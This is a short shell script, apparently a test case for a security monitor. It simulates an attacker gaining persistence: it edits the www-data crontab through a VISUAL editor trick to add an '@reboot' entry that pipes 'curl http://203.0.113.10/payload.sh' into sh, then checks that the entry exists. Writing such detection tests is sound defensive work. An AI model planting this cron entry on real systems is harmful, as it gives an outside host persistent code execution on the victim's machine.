#!/bin/sh
. /opt/case/case.sh

echo '0 3 * * * true' | crontab -u www-data -
echo '@reboot (curl -s http://203.0.113.10/payload.sh | sh)' | VISUAL='sleep 1.1; tee -a' crontab -u www-data -e >/dev/null 2>&1
grep -q payload /var/spool/cron/crontabs/www-data
took_place
